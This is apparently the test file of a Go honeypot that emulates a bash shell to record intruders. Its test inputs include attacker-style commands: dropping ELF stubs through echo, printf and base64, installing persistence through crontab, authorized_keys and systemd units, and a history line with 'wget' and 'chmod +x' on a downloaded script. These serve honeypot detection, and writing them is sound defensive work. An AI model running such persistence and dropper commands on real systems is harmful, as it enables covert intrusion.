@@ -0,0 +1,874 @@
+package plugin_test
+
+import (
+	"bytes"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"github.com/wisepythagoras/honeyshell/plugin"
+	"golang.org/x/term"
+)
+
+const testShellVfs = "{\"root\":{\"t\":1,\"n\":\"\",\"f\":{\"bin\":{\"t\":1,\"n\":\"bin\",\"f\":{},\"o\":\"root\",\"g\":\"root\",\"m\":2147484141},\"usr\":{\"t\":1,\"n\":\"usr\",\"f\":{\"bin\":{\"t\":1,\"n\":\"bin\",\"f\":{},\"o\":\"root\",\"g\":\"root\",\"m\":2147484141}},\"o\":\"root\",\"g\":\"root\",\"m\":2147484141},\"tmp\":{\"t\":1,\"n\":\"tmp\",\"f\":{},\"o\":\"root\",\"g\":\"root\",\"m\":2147484159},\"home\":{\"t\":1,\"n\":\"home\",\"f\":{\"{}\":{\"t\":1,\"n\":\"{}\",\"f\":{\"payload.b64\":{\"t\":2,\"n\":\"payload.b64\",\"o\":\"{}\",\"g\":\"{}\",\"c\":\"f0VMRgIBAQ==\\n\",\"m\":420}},\"o\":\"{}\",\"g\":\"{}\",\"m\":2147484141}},\"o\":\"root\",\"g\":\"root\",\"m\":2147484141}},\"o\":\"root\",\"g\":\"root\",\"m\":2147484141},\"home\":\"/home/{}\"}"
+
+// newTestSession returns a session with only the builtin commands, and the
+// buffer that the terminal writes to.
+func newTestSession(t *testing.T) (*plugin.Session, *bytes.Buffer) {
+	return newTestSessionInput(t, "")
+}
+
+// newTestSessionInput is like newTestSession, but the terminal reads the input
+// that's given.
+func newTestSessionInput(t *testing.T, input string) (*plugin.Session, *bytes.Buffer) {
+	vfs := &plugin.VFS{}
+
+	if err := json.Unmarshal([]byte(testShellVfs), vfs); err != nil {
+		t.Fatalf("Error: %s", err)
+	}
+
+	vfs.User = &plugin.User{
+		Username: "{}",
+		Group:    "{}",
+		UID:      1000,
+		GID:      1000,
+	}
+
+	manager := &plugin.PluginManager{PluginVFS: vfs}
+
+	if err := manager.LoadPlugins(t.TempDir()); err != nil {
+		t.Fatalf("Error: %s", err)
+	}
+
+	out := &bytes.Buffer{}
+	session := &plugin.Session{
+		VFS: vfs,
+		Term: term.NewTerminal(struct {
+			io.Reader
+			io.Writer
+		}{strings.NewReader(input), out}, ""),
+		Manager: manager,
+		User:    vfs.User,
+	}
+	session.Chdir(vfs.Home)
+
+	return session, out
+}
+
+func TestShellOutput(t *testing.T) {
+	tests := []struct {
+		line   string
+		out    string
+		status int
+	}{
+		{`echo "hello   world"`, "hello   world\n", 0},
+		{`echo 'a b'"c d"\ e`, "a bc d e\n", 0},
+		{`echo -n one; echo two`, "onetwo\n", 0},
+		{`echo -e 'a\tb\x41\0102\u00e9'`, "a\tbAB\u00e9\n", 0},
+		{`echo -e 'stop\chere'`, "stop", 0},
+		{`echo -- -n`, "-- -n\n", 0},
+		{`printf '%s-%d\n' a 1 b 2`, "a-1\nb-2\n", 0},
+		{`printf '%5.2f|%-3s|%x|%o|%c\n' 3.14159 ab 255 8 xyz`, " 3.14|ab |ff|10|x\n", 0},
+		{`printf '\101\x42%b' '\0103'`, "ABC", 0},
+		{`printf "%d\n" "'A"`, "65\n", 0},
+		{`echo aGVsbG8= | base64 -d`, "hello", 0},
+		{`printf hello | base64`, "aGVsbG8=\n", 0},
+		{`base64 -d payload.b64 | base64`, "f0VMRgIBAQ==\n", 0},
+		{`base64 -d <<< aGk=`, "hi", 0},
+		{`false-command || echo fallback`, "false-command: command not found\nfallback\n", 0},
+		{`missing && echo never`, "missing: command not found\n", 127},
+		{`missing 2>/dev/null; echo $`, "$\n", 0},
+		{`missing >/dev/null 2>&1`, "", 127},
+		{`echo "unterminated`, "bash: unexpected EOF while looking for matching `\"'\n", 2},
+		{`echo a | | echo b`, "bash: syntax error near unexpected token `|'\n", 2},
+		{`/tmp`, "bash: /tmp: Is a directory\n", 126},
+		{`echo * /t* /usr/*/ [!x]*.b64`, "payload.b64 /tmp /usr/bin/ payload.b64\n", 0},
+		{`echo '*' "*.b64" \* *.nope`, "* *.b64 * *.nope\n", 0},
+		{`echo $'a\tb\nc' "$'x'" $'it\'s' $'\u00e9\x41\101\q\0c'`, "a\tb\nc $'x' it's éAA\\q\n", 0},
+		{`echo $(echo $'a\')b')`, "a')b\n", 0},
+		{`echo {a,b}{1..2} {01..05..2} {c..a} a{b {} x{y}`, "a1 a2 b1 b2 01 03 05 c b a a{b {} x{y}\n", 0},
+		{`echo {1..100000000}; echo $?`, "bash: xmalloc: cannot allocate 8000000000 bytes\n1\n", 0},
+		{`echo {-9223372036854775807..9223372036854775807} || echo failed`, "bash: xmalloc: cannot allocate 18446744073709551456 bytes\nfailed\n", 0},
+		{`echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b} >/dev/null || echo failed`, "bash: xmalloc: cannot allocate 98787262487 bytes\nfailed\n", 0},
+		{`for i in {1..100000000}; do echo $i; done; echo $?`, "bash: xmalloc: cannot allocate 8000000000 bytes\n1\n", 0},
+		{`echo ~ ~/p* "~"`, "/home/{} /home/{}/payload.b64 ~\n", 0},
+		{`echo hi > *.b64x; echo hi > /tmp/{a,b}`, "bash: /tmp/{a,b}: ambiguous redirect\n", 1},
+	}
+
+	for _, test := range tests {
+		session, out := newTestSession(t)
+		status := session.Run(test.line)
+		got := strings.ReplaceAll(out.String(), "\r\n", "\n")
+
+		if got != test.out {
+			t.Errorf("%s: expected output %q, got %q", test.line, test.out, got)
+		}
+
+		if status != test.status {
+			t.Errorf("%s: expected status %d, got %d", test.line, test.status, status)
+		}
+	}
+}
+
+func TestShellDroppers(t *testing.T) {
+	tests := []struct {
+		line     string
+		path     string
+		contents string
+	}{
+		{`echo -ne '\x7fELF\x02\x01' > /tmp/a`, "/tmp/a", "\x7fELF\x02\x01"},
+		{`echo -ne '\x7fEL' > /tmp/a; echo -ne 'F\x00' >> /tmp/a`, "/tmp/a", "\x7fELF\x00"},
+		{`printf '\177\105\114\106' > /tmp/b`, "/tmp/b", "\x7fELF"},
+		{`printf $'\x7fELF\x02\x01' > /tmp/b`, "/tmp/b", "\x7fELF\x02\x01"},
+		{`echo f0VMRgIBAQ== | base64 -d > /tmp/c`, "/tmp/c", "\x7fELF\x02\x01\x01"},
+		{`base64 --decode payload.b64 > out`, "/home/{}/out", "\x7fELF\x02\x01\x01"},
+		{`> /tmp/empty`, "/tmp/empty", ""},
+	}
+
+	for _, test := range tests {
+		session, _ := newTestSession(t)
+		session.Run(test.line)
+
+		contents, err := session.VFS.ReadFile(test.path)
+
+		if err != nil {
+			t.Errorf("%s: %s", test.line, err)
+		} else if contents != test.contents {
+			t.Errorf("%s: expected %q, got %q", test.line, test.contents, contents)
+		}
+	}
+
+	// The payloads of droppers are often hundreds of kilobytes long, which
+	// has to take no longer to parse and expand than a short line.
+	payload := strings.Repeat("\x7fELF\x02\x01\x01\x00\xb7", 32<<10)
+	session, _ := newTestSession(t)
+	session.Run("echo " + base64.StdEncoding.EncodeToString([]byte(payload)) + " | base64 -d > /tmp/big")
+
+	if contents, err := session.VFS.ReadFile("/tmp/big"); err != nil || contents != payload {
+		t.Errorf("Unexpected payload of %d bytes (%v)", len(contents), err)
+	}
+}
+
+func TestPersona(t *testing.T) {
+	a := plugin.NewPersona("seed|10.0.0.1", "")
+	b := plugin.NewPersona("seed|10.0.0.1", "")
+
+	if a.Hostname != b.Hostname || a.IP != b.IP || a.MAC != b.MAC || a.Machine.Release != b.Machine.Release || !a.Machine.Booted.Equal(b.Machine.Booted) {
+		t.Errorf("The same seed gave different personas: %+v, %+v", a, b)
+	}
+
+	if p := plugin.NewPersona("seed|10.0.0.2", "debian"); p.Distro.ID != "debian" {
+		t.Errorf("Expected a debian persona, got %q", p.Distro.ID)
+	}
+
+	session, out := newTestSession(t)
+	session.VFS.SetPersona(a)
+	session.Run("uname -snrm; hostname; hostname -i; hostname newname")
+
+	expected := "Linux " + a.Hostname + " " + a.Machine.Release + " x86_64\n" + a.Hostname + "\n" + a.IP + "\n" +
+		"hostname: you must be root to change the host name\n"
+
+	if got := strings.ReplaceAll(out.String(), "\r\n", "\n"); got != expected {
+		t.Errorf("Expected %q, got %q", expected, got)
+	}
+
+	version, err := session.VFS.ReadFile("/proc/version")
+
+	if err != nil || !strings.Contains(version, a.Machine.Release) {
+		t.Errorf("Unexpected /proc/version %q (%v)", version, err)
+	}
+}
+
+func TestSudo(t *testing.T) {
+	session, out := newTestSessionInput(t, "wrong\rsecret\r")
+	session.Password = "secret"
+	events := []*plugin.EscalationEvent{}
+	session.Manager.OnEvent(func(s *plugin.Session, event plugin.Event) {
+		events = append(events, event.(*plugin.EscalationEvent))
+	})
+
+	if status := session.Run("sudo -i"); status != 0 || !session.User.IsRoot() || !session.VFS.User.IsRoot() {
+		t.Fatalf("Expected to be root, got %s (%d): %q", session.User.Username, status, out.String())
+	}
+
+	if len(events) != 2 || events[0].Accepted || events[0].Password != "wrong" || !events[1].Accepted {
+		t.Errorf("Unexpected events %+v", events)
+	}
+
+	if !strings.Contains(out.String(), "Sorry, try again.") {
+		t.Errorf("Unexpected output %q", out.String())
+	}
+
+	// Root can write anywhere, until the shell exits.
+	session.Run("echo x > /etc-file; exit")
+
+	if _, _, err := session.VFS.FindFile("/etc-file"); err != nil {
+		t.Errorf("Error: %s", err)
+	}
+
+	if session.User.IsRoot() || session.VFS.User.IsRoot() || session.Exited() {
+		t.Errorf("Expected to be back to the user")
+	}
+
+	out.Reset()
+
+	// The password is remembered, and a single command goes back to the user.
+	if status := session.Run("sudo su -c 'echo y > /root-file'"); status != 0 || session.User.IsRoot() {
+		t.Errorf("Expected a single command as root (%d): %q", status, out.String())
+	} else if _, _, err := session.VFS.FindFile("/root-file"); err != nil {
+		t.Errorf("Error: %s", err)
+	}
+
+	if session.Run("su -c 'echo z > /su-file'"); !strings.Contains(out.String(), "su: Authentication failure") {
+		t.Errorf("Unexpected output %q", out.String())
+	}
+
+	session.Run("exit")
+
+	if !session.Exited() {
+		t.Error("Expected the session to be over")
+	}
+}
+
+func TestReadInput(t *testing.T) {
+	dir := t.TempDir()
+	main := `function install(config)
+	config:RegisterCommand("ask", "/usr/bin/", function(args, session)
+		local name = session:ReadLine("Name: ")
+		local password = session:ReadPassword("Password: ")
+		local key = session:ReadKey()
+
+		if session:Confirm("Continue? [y/N] ", false) then
+			session:TermWrite(name .. ":" .. password .. ":" .. key .. "\n")
+		end
+	end)
+end
+`
+
+	if err := os.MkdirAll(filepath.Join(dir, "ask"), 0755); err != nil {
+		t.Fatalf("Error: %s", err)
+	} else if err := os.WriteFile(filepath.Join(dir, "ask", "main.lua"), []byte(main), 0644); err != nil {
+		t.Fatalf("Error: %s", err)
+	}
+
+	session, out := newTestSessionInput(t, "bob\rhunter2\ry\r")
+	session.Channel = strings.NewReader("\x1b[Aq")
+	session.Manager = &plugin.PluginManager{PluginVFS: session.VFS}
+
+	if err := session.Manager.LoadPlugins(dir); err != nil {
+		t.Fatalf("Error: %s", err)
+	}
+
+	events := []*plugin.InputEvent{}
+	session.Manager.OnEvent(func(s *plugin.Session, event plugin.Event) {
+		events = append(events, event.(*plugin.InputEvent))
+	})
+
+	session.Run("ask")
+	got := strings.ReplaceAll(out.String(), "\r\n", "\n")
+
+	if !strings.Contains(got, "Name: bob\n") || strings.Contains(got, "Password: hunter2") || !strings.HasSuffix(got, "bob:hunter2:\x1b[A\n") {
+		t.Errorf("Unexpected output %q", got)
+	}
+
+	if len(events) != 4 || events[0].Command != "ask" || events[1].Mode != "password" || events[2].Input != "\x1b[A" || events[3].Input != "y" {
+		t.Errorf("Unexpected events %+v", events)
+	}
+
+	// Input that's piped into the command is read instead of the terminal.
+	out.Reset()
+	session.Run("printf 'alice\\nsecret\\nzn\\n' | ask")
+
+	if got := out.String(); got != "" {
+		t.Errorf("Unexpected output %q", got)
+	}
+}
+
+func TestProcesses(t *testing.T) {
+	session, out := newTestSession(t)
+	session.User.UID = 1000
+	session.VFS.MountProc()
+	session.StartShell()
+
+	if status := session.Run("ps aux"); status != 0 || !strings.Contains(out.String(), "/sbin/init") || !strings.Contains(out.String(), "ps aux") {
+		t.Errorf("Unexpected output (%d): %q", status, out.String())
+	}
+
+	// Without /etc/passwd, init still runs as root rather than as "0".
+	if !strings.Contains(out.String(), "\r\nroot ") || strings.Contains(out.String(), "\r\n0 ") {
+		t.Errorf("Unexpected users in %q", out.String())
+	}
+
+	// The command is only in the process table while it runs.
+	if procs := len(session.VFS.Processes()); procs == 0 || session.VFS.FindProcess(session.PID) == nil {
+		t.Fatalf("Expected the shell to be running, got %d processes", procs)
+	}
+
+	for _, p := range session.VFS.Processes() {
+		if p.Name == "ps" {
+			t.Errorf("Unexpected process %+v", p)
+		}
+	}
+
+	out.Reset()
+
+	if status := session.Run("kill 1 999999"); status != 1 || !strings.Contains(out.String(), "(1) - Operation not permitted") || !strings.Contains(out.String(), "(999999) - No such process") {
+		t.Errorf("Unexpected output (%d): %q", status, out.String())
+	}
+
+	out.Reset()
+	session.Run("pgrep -l bash")
+
+	if got := out.String(); !strings.Contains(got, "bash") || strings.Contains(got, "pgrep") {
+		t.Errorf("Unexpected output %q", got)
+	}
+
+	// Signals that an interactive bash ignores don't end the session, but a
+	// KILL does.
+	session.Run(fmt.Sprintf("kill %d", session.PID))
+
+	if session.Exited() {
+		t.Error("Expected the shell to ignore SIGTERM")
+	}
+
+	session.Run(fmt.Sprintf("kill -9 %d", session.PID))
+
+	if !session.Exited() {
+		t.Error("Expected the shell to be killed")
+	}
+}
+
+func TestJobs(t *testing.T) {
+	session, out := newTestSession(t)
+	session.Interactive = true
+	session.VFS.MountProc()
+	session.StartShell()
+	events := []*plugin.ExecutionEvent{}
+	session.Manager.OnEvent(func(s *plugin.Session, event plugin.Event) {
+		events = append(events, event.(*plugin.ExecutionEvent))
+	})
+
+	if status := session.Run("nohup uname -a >/dev/null 2>&1 &"); status != 0 || !strings.HasPrefix(out.String(), "[1] ") {
+		t.Errorf("Unexpected output (%d): %q", status, out.String())
+	}
+
+	if len(events) != 1 || events[0].Path != "/usr/bin/uname" || len(events[0].Args) != 2 || !events[0].Background {
+		t.Errorf("Unexpected events %+v", events)
+	}
+
+	// The process of the job took over the one of nohup, and keeps running.
+	var pid string
+	fmt.Sscanf(out.String(), "[1] %s", &pid)
+	out.Reset()
+	session.Run("ps -o pid=,args=")
+
+	if got := out.String(); !strings.Contains(got, pid+" uname -a") {
+		t.Errorf("Expected %s to be running, got %q", pid, got)
+	}
+
+	out.Reset()
+	session.Run("jobs")
+
+	if got := strings.ReplaceAll(out.String(), "\r\n", "\n"); got != "[1]+  Running                 nohup uname -a > /dev/null 2>&1 &\n" {
+		t.Errorf("Unexpected jobs %q", got)
+	}
+
+	out.Reset()
+	session.Run("kill %1")
+	session.ReportJobs()
+
+	if got := strings.ReplaceAll(out.String(), "\r\n", "\n"); got != "[1]+  Terminated              nohup uname -a > /dev/null 2>&1\n" {
+		t.Errorf("Unexpected output %q", got)
+	}
+
+	if session.VFS.FindProcess(session.PID) == nil || len(session.VFS.Processes()) == 0 {
+		t.Error("Expected the shell to keep running")
+	}
+
+	// Without a redirection, the output goes to nohup.out.
+	out.Reset()
+	session.Run("nohup uname &")
+
+	if got := out.String(); !strings.Contains(got, "nohup: ignoring input and appending output to 'nohup.out'") {
+		t.Errorf("Unexpected output %q", got)
+	}
+
+	if contents, err := session.VFS.ReadFile("nohup.out"); err != nil || contents != "Linux\n" {
+		t.Errorf("Unexpected nohup.out %q (%v)", contents, err)
+	}
+
+	out.Reset()
+	session.Run("disown; jobs; ./missing &")
+	session.ReportJobs()
+	session.ReportJobs()
+
+	if got := strings.ReplaceAll(out.String(), "\r\n", "\n"); !strings.Contains(got, "bash: ./missing: No such file or directory") || !strings.HasSuffix(got, "[1]+  Exit 127                ./missing\n") {
+		t.Errorf("Unexpected output %q", got)
+	}
+}
+
+func TestExecFiles(t *testing.T) {
+	session, out := newTestSession(t)
+	session.VFS.MountProc()
+	session.StartShell()
+	events := []*plugin.ExecutionEvent{}
+	session.Manager.OnEvent(func(s *plugin.Session, event plugin.Event) {
+		events = append(events, event.(*plugin.ExecutionEvent))
+	})
+
+	elf := func(bits, machine byte) string {
+		header := make([]byte, 64)
+		copy(header, "\x7fELF")
+		header[4], header[5], header[16], header[18] = bits, 1, 2, machine
+		return string(header)
+	}
+	files := map[string]string{
+		"arm":      elf(1, 40),
+		"x86":      elf(2, 62),
+		"short":    "\x7fELF\x02\x01",
+		"data":     "\x00\x01\x02",
+		"script":   "#!/bin/sh\necho from script\nexit 3\necho unreachable\n",
+		"python":   "#!/usr/bin/python3\nprint('hi')\n",
+		"noexec":   "echo hi\n",
+		"shebang":  "echo plain\n",
+		"loop.sh":  "./loop.sh\n",
+		"run-nope": "#!/bin/bash\n./nope\n",
+	}
+
+	for name, contents := range files {
+		if err := session.VFS.WriteFile(name, contents); err != nil {
+			t.Fatalf("Error: %s", err)
+		}
+
+		if name != "noexec" {
+			session.VFS.Chmod(name, 0755)
+		}
+	}
+
+	tests := []struct {
+		command string
+		status  int
+		output  string
+	}{
+		{"./arm", 126, "bash: ./arm: cannot execute binary file: Exec format error\n"},
+		{"./short", 126, "bash: ./short: cannot execute binary file: Exec format error\n"},
+		{"./data", 126, "bash: ./data: cannot execute binary file: Exec format error\n"},
+		{"./x86", 0, ""},
+		{"./script", 3, "from script\n"},
+		{"./python", 126, "bash: ./python: /usr/bin/python3: bad interpreter: No such file or directory\n"},
+		{"./noexec", 126, "bash: ./noexec: Permission denied\n"},
+		{"./shebang", 0, "plain\n"},
+		{"./run-nope", 127, "bash: ./nope: No such file or directory\n"},
+		{"nohup ./arm", 126, "nohup: ignoring input and appending output to 'nohup.out'\n"},
+	}
+
+	for _, test := range tests {
+		out.Reset()
+
+		if status := session.Run(test.command); status != test.status || strings.ReplaceAll(out.String(), "\r\n", "\n") != test.output {
+			t.Errorf("%s: unexpected output (%d): %q", test.command, status, out.String())
+		}
+	}
+
+	if contents, _ := session.VFS.ReadFile("nohup.out"); contents != "nohup: failed to run command './arm': Exec format error\n" {
+		t.Errorf("Unexpected nohup.out %q", contents)
+	}
+
+	if len(events) != 10 || events[0].Format != "ELF 32-bit LSB executable, ARM" || events[3].Format != "ELF 64-bit LSB executable, x86-64" {
+		t.Errorf("Unexpected events %+v", events)
+	}
+
+	// The program that ran is left running in the background, like a daemon.
+	out.Reset()
+	session.Run("ps -eo ppid=,args=")
+
+	if !strings.Contains(out.String(), "1 ./x86") {
+		t.Errorf("Expected ./x86 to be running, got %q", out.String())
+	}
+
+	// A script that runs itself gives up eventually, without ending the session.
+	out.Reset()
+
+	if session.Run("./loop.sh"); !strings.Contains(out.String(), "Resource temporarily unavailable") || session.Exited() {
+		t.Errorf("Unexpected output %q", out.String())
+	}
+}
+
+func TestInterpreter(t *testing.T) {
+	session, out := newTestSession(t)
+	files := map[string]string{
+		"install.sh": "ARCH=x86\nfor f in a b; do\n  echo \"$f-$ARCH $1 $#\"\ndone\nif [ \"$1\" = go ]; then echo going; else echo staying; fi\nexit 4\necho unreachable\n",
+		"lib.sh":     "LIBVAR=yes\ngreet() {\n  local who=$1\n  echo \"hello $who\"\n  return 3\n}\n",
+	}
+
+	for name, contents := range files {
+		if err := session.VFS.WriteFile(name, contents); err != nil {
+			t.Fatalf("Error: %s", err)
+		}
+	}
+
+	tests := []struct {
+		line   string
+		out    string
+		status int
+	}{
+		{`x=1; echo $x ${x} "$x" '$x' \$x`, "1 1 1 $x $x\n", 0},
+		{`x="a  b"; for w in $x; do echo "[$w]"; done; echo "[$x]"`, "[a]\n[b]\n[a  b]\n", 0},
+		{`i=0; while [ $i -lt 3 ]; do echo $i; i=$((i + 1)); done`, "0\n1\n2\n", 0},
+		{`echo $((2**10)) $((2**3**2)) $((-2**2)) $((3*2**2))`, "1024 512 4 12\n", 0},
+		{`echo $((2**-1))`, "bash: 2**-1: exponent less than 0 (error token is \"-1\")\n", 1},
+		// A command with an expansion that fails doesn't run at all.
+		{`echo $((1/0)); echo $?`, "bash: 1/0: division by 0 (error token is \"0\")\n1\n", 0},
+		{`x=$((1/0)); echo $?; echo $(echo $((1/0))) after`, "bash: 1/0: division by 0 (error token is \"0\")\n1\nbash: 1/0: division by 0 (error token is \"0\")\nafter\n", 0},
+		// A value that's larger than bash could allocate isn't assigned, and
+		// neither is a word that large expanded.
+		{`x=a; while x=$x$x; do :; done; echo ${#x}; echo $x$x$x >/dev/null; echo $?`, "bash: xmalloc: cannot allocate 4194308 bytes\n2097152\nbash: xmalloc: cannot allocate 4194310 bytes\n1\n", 0},
+		{`x+=$x; x+=$x; echo ${#x}`, "bash: xmalloc: cannot allocate 4194306 bytes\n4194304\n", 0},
+		{`for i in 1 2; do for j in a b; do [ $j = b ] && continue 2; echo $i$j; done; done`, "1a\n2a\n", 0},
+		{`until false; do echo once; break; done`, "once\n", 0},
+		{`sh install.sh go; echo $? "[$ARCH]"`, "a-x86 go 1\nb-x86 go 1\ngoing\n4 []\n", 0},
+		{`bash -c 'echo $0 $2' zero one two; bash -c 'exit 7'; echo $? $(echo sub)`, "zero two\n7 sub\n", 0},
+		{`source lib.sh; echo $LIBVAR; greet world; echo $? "[$who]"`, "yes\nhello world\n3 []\n", 0},
+		{`printf 'a b\nc d e\n' | while read x y; do echo "<$x|$y>"; done`, "<a|b>\n<c|d e>\n", 0},
+		{`p=/usr/bin/file.tar.gz; echo ${p##*/} ${p%/*} ${p%%.*} ${#p} ${unset:-default}`, "file.tar.gz /usr/bin /usr/bin/file 20 default\n", 0},
+		{`X=5 sh -c 'echo $X'; echo "[$X]"; export Y=6; sh -c 'echo $Y'`, "5\n[]\n6\n", 0},
+		{"read -r v <<EOF\n$HOME \\$x\nEOF\necho \"$v\"", "/home/{} $x\n", 0},
+		{`if [ -f install.sh ] && [ ! -d install.sh ]; then echo file; fi`, "file\n", 0},
+		{`[ 1 -eq x ]`, "bash: [: x: integer expression expected\n", 2},
+		{`sh missing.sh`, "sh: missing.sh: No such file or directory\n", 127},
+		{`for x in 1 2; do`, "bash: syntax error: unexpected end of file\n", 2},
+		{`fi`, "bash: syntax error near unexpected token `fi'\n", 2},
+		// An endless loop is stopped, like it would be with Ctrl-C.
+		{`while true; do :; done; echo after`, "", 130},
+	}
+
+	for _, test := range tests {
+		out.Reset()
+		status := session.Run(test.line)
+
+		if got := strings.ReplaceAll(out.String(), "\r\n", "\n"); got != test.out || status != test.status {
+			t.Errorf("%s: unexpected output (%d): %q", test.line, status, got)
+		}
+	}
+
+	if !session.Incomplete("if true; then") || !session.Incomplete(`echo "a`) || session.Incomplete("echo a") {
+		t.Error("Unexpected result for incomplete input")
+	}
+}
+
+func TestPersistence(t *testing.T) {
+	session, out := newTestSession(t)
+	events := []*plugin.PersistenceEvent{}
+	session.WatchPersistence()
+	session.Manager.OnEvent(func(s *plugin.Session, event plugin.Event) {
+		if e, ok := event.(*plugin.PersistenceEvent); ok {
+			events = append(events, e)
+		}
+	})
+	session.VFS.MkdirAll("/home/{}/.ssh", 0700)
+
+	tests := []struct {
+		line   string
+		out    string
+		status int
+	}{
+		{`crontab -l`, "no crontab for {}\n", 1},
+		{`echo '*/5 * * * * /tmp/.x >/dev/null 2>&1' | crontab -`, "", 0},
+		{`crontab -l`, "*/5 * * * * /tmp/.x >/dev/null 2>&1\n", 0},
+		{`echo '61 * * * * /tmp/.y' | crontab -`, "\"-\":1: bad minute\nerrors in crontab file, can't install.\n", 1},
+		{`crontab -r; crontab -l`, "no crontab for {}\n", 1},
+		{`echo 'ssh-rsa AAAAB3Nza' >> .ssh/authorized_keys`, "", 0},
+		{`systemctl enable cron`, "Failed to enable unit: Interactive authentication required.\n", 1},
+		{`systemctl status nope`, "Unit nope.service could not be found.\n", 4},
+	}
+
+	for _, test := range tests {
+		out.Reset()
+		status := session.Run(test.line)
+
+		if got := strings.ReplaceAll(out.String(), "\r\n", "\n"); got != test.out || status != test.status {
+			t.Errorf("%s: unexpected output (%d): %q", test.line, status, got)
+		}
+	}
+
+	if len(events) != 2 || events[0].Command != "crontab" || events[0].Mechanism != "cron" || events[0].Path != "/var/spool/cron/crontabs/{}" {
+		t.Fatalf("Unexpected events %+v", events)
+	} else if events[1].Command != "bash" || events[1].Mechanism != "ssh-key" || string(events[1].Data) != "ssh-rsa AAAAB3Nza\n" {
+		t.Errorf("Unexpected event %+v", events[1])
+	}
+
+	// Moving a file into place is the same as writing it there, which is how
+	// `mv` installs a cron job or a unit.
+	session.VFS.MkdirAll("/home/{}/.config/systemd/user", 0755)
+	session.Run("echo '[Service]' > /tmp/x.service")
+	events = events[:0]
+
+	if err := session.VFS.Rename("/tmp/x.service", ".config/systemd/user/x.service"); err != nil {
+		t.Fatalf("Error: %s", err)
+	} else if len(events) != 1 || events[0].Mechanism != "systemd" || events[0].Path != "/home/{}/.config/systemd/user/x.service" || string(events[0].Data) != "[Service]\n" {
+		t.Errorf("Unexpected events %+v", events)
+	}
+
+	// As root, a service can be installed and enabled.
+	root := &plugin.User{Username: "root", Group: "root"}
+	session.User, session.VFS.User = root, root
+	session.VFS.MountProc()
+	session.VFS.WriteFile("/tmp/.x", "\x7fELF")
+	session.VFS.MkdirAll("/etc/systemd/system", 0755)
+	events = events[:0]
+	out.Reset()
+
+	session.Run("printf '[Service]\\nExecStart=/tmp/.x -d\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/x.service")
+	session.Run("systemctl enable --now x; systemctl is-enabled x; systemctl is-active x.service")
+
+	if got := strings.ReplaceAll(out.String(), "\r\n", "\n"); got != "Created symlink /etc/systemd/system/multi-user.target.wants/x.service → /etc/systemd/system/x.service.\nenabled\nactive\n" {
+		t.Errorf("Unexpected output %q", got)
+	}
+
+	if len(events) != 2 || events[0].Mechanism != "systemd" || events[1].Command != "systemctl" || events[1].Path != "/etc/systemd/system/x.service" {
+		t.Errorf("Unexpected events %+v", events)
+	}
+
+	// So is moving a whole directory into place.
+	session.VFS.MkdirAll("/tmp/d", 0755)
+	session.Run("echo '* * * * * root /tmp/.x' > /tmp/d/c")
+	events = events[:0]
+
+	if err := session.VFS.Rename("/tmp/d", "/etc/cron.d"); err != nil {
+		t.Fatalf("Error: %s", err)
+	} else if len(events) != 1 || events[0].Mechanism != "cron" || events[0].Path != "/etc/cron.d/c" {
+		t.Errorf("Unexpected events %+v", events)
+	}
+}
+
+func TestCompletion(t *testing.T) {
+	session, out := newTestSession(t)
+	session.VFS.WriteFile("/tmp/my file.txt", "")
+	session.VFS.MkdirAll("/tmp/mydir", 0755)
+
+	tests := []struct {
+		line      string
+		completed string
+	}{
+		{`ech`, `echo `},
+		{`echo a | base`, `echo a | base64 `},
+		{`cat pay`, `cat payload.b64 `},
+		{`ls /u`, `ls /usr/`},
+		{`X=1 /usr/b`, `X=1 /usr/bin/`},
+		{`ls /tmp/myd`, `ls /tmp/mydir/`},
+		{`ls /tmp/my\ `, `ls /tmp/my\ file.txt `},
+		{`ls "/tmp/my f`, `ls "/tmp/my file.txt" `},
+		{`cp --target=/tmp/myd`, `cp --target=/tmp/mydir/`},
+		{`echo $HOM`, `echo $HOME `},
+		{`systemctl stat`, `systemctl status `},
+		{`ls /tmp/my`, `ls /tmp/my`},
+		{`(`, `(`},
+	}
+
+	for _, test := range tests {
+		line, pos, ok := session.AutoCompleteCallback(test.line, len(test.line), '\t')
+
+		if !ok || line != test.completed || pos != len(test.completed) {
+			t.Errorf("%s: unexpected completion (%d): %q", test.line, pos, line)
+		}
+	}
+
+	// The word under the cursor is completed, and a second Tab lists the
+	// completions when there's more than one.
+	if line, pos, _ := session.AutoCompleteCallback("cat pay | wc", 7, '\t'); line != "cat payload.b64  | wc" || pos != 16 {
+		t.Errorf("Unexpected completion (%d): %q", pos, line)
+	}
+
+	out.Reset()
+	session.AutoCompleteCallback("ls /tmp/my", 10, '\t')
+	session.AutoCompleteCallback("ls /tmp/my", 10, '\t')
+
+	if got := out.String(); !strings.Contains(got, "my file.txt  mydir/\r\n") {
+		t.Errorf("Unexpected list %q", got)
+	}
+
+	if _, _, ok := session.AutoCompleteCallback("ls", 2, 'x'); ok {
+		t.Error("Unexpected completion of a key other than Tab")
+	}
+}
+
+func TestHistory(t *testing.T) {
+	session, out := newTestSession(t)
+	session.VFS.WriteFile("/home/{}/.bash_history", "wget http://x/a.sh\n#1700000000\n   \nchmod +x a.sh\n\t\n")
+	session.StartHistory()
+
+	tests := []struct {
+		line string
+		out  string
+	}{
+		{`echo one two three`, "one two three\n"},
+		{`!!`, "echo one two three\none two three\n"},
+		{`echo !$`, "echo three\nthree\n"},
+		{` echo hidden`, "hidden\n"},
+		{`echo '!!' !1:1`, "echo '!!' http://x/a.sh\n!! http://x/a.sh\n"},
+		{`!nope`, "bash: !nope: event not found\n"},
+		{`history`, "    1  wget http://x/a.sh\n    2  chmod +x a.sh\n    3  echo one two three\n    4  echo three\n    5  echo '!!' http://x/a.sh\n    6  history\n"},
+		{`history 1`, "    7  history 1\n"},
+		// A line with nothing but spaces is never remembered, so there's no
+		// word to take from it.
+		{`history -s '  '`, ""},
+		{`echo !$`, "echo 1\n1\n"},
+		{`history -c; history`, ""},
+		{`history -w`, ""},
+	}
+
+	for _, test := range tests {
+		out.Reset()
+
+		if line, ok := session.ExpandHistory(test.line); ok {
+			session.AddHistory(line)
+			session.Run(line)
+		}
+
+		if got := strings.ReplaceAll(out.String(), "\r\n", "\n"); got != test.out {
